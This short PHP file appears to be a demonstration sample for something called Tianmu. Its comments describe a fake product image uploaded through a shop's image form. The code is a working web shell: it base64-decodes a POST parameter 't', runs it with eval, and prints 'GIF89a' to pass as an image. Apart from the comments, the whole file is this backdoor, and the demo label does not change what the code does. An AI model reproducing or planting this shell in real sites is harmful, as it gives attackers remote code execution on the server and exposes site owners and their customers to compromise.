<?php
// Uploaded through the shop's product-image form in the demo story: not an image at all.
// (Demo file for Tianmu: it is never served or run.)
if (isset($_POST['t'])) { eval(base64_decode($_POST['t'])); }
echo "GIF89a";
